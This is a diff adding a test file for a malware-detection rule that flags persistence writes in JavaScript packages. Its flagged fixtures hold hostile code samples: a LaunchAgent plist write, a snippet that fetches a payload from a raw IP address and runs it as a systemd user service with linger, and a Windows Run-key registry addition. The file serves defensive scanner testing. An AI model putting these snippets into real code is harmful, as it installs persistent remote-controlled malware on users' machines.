@@ -1,0 +1,44 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './persistence-write.js';
+
+ruleTest(rule, {
+  clean: [
+    {
+      name: 'husky writing git hooks',
+      file: 'lib/husky.js',
+      code: `const fs = require('fs');\nfs.writeFileSync('.husky/pre-commit', '#!/bin/sh\\nnpx lint-staged\\n', { mode: 0o755 });\n`,
+    },
+    {
+      name: 'docs string mentioning .bashrc without writing',
+      file: 'bin/help.js',
+      code: `console.log('Add the following line to ~/.bashrc: export PATH=$HOME/.tool/bin:$PATH');\nconst f = '~/.bashrc';\n`,
+    },
+  ],
+  flagged: [
+    {
+      name: 'electron auto-launch style LaunchAgent (medium)',
+      file: 'src/autolaunch.js',
+      code: `const fs = require('fs'), os = require('os');
+const plist = os.homedir() + '/Library/LaunchAgents/com.example.app.plist';
+fs.writeFileSync(plist, '<plist><dict><key>RunAtLoad</key><true/></dict></plist>');
+`,
+      findings: [{ line: 2, severity: 'medium', confidence: 'medium' }],
+    },
+    {
+      name: 'systemd user unit + linger next to a download',
+      file: 'lib/keep.js',
+      code: `const fs = require('fs'), { execSync } = require('child_process'), axios = require('axios');
+axios.get('http://95.164.17.24:1224/client/5').then((r) => fs.writeFileSync('/tmp/.npl', r.data));
+fs.writeFileSync(process.env.HOME + '/.config/systemd/user/npm-cache.service', '[Service]\\nExecStart=node /tmp/.npl\\n');
+execSync('systemctl --user enable npm-cache && loginctl enable-linger');
+`,
+      findings: [{ line: 3, severity: 'high', confidence: 'high', message: /systemd user unit \(file also has network\)/ }],
+    },
+    {
+      name: 'Run key via reg add',
+      file: 'w.js',
+      code: `require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /d "node C:\\\\u.js" /f', { windowsHide: true });\n`,
+      findings: [{ line: 1, severity: 'high', confidence: 'high', message: /Windows Run key/ }],
+    },
+  ],
+});
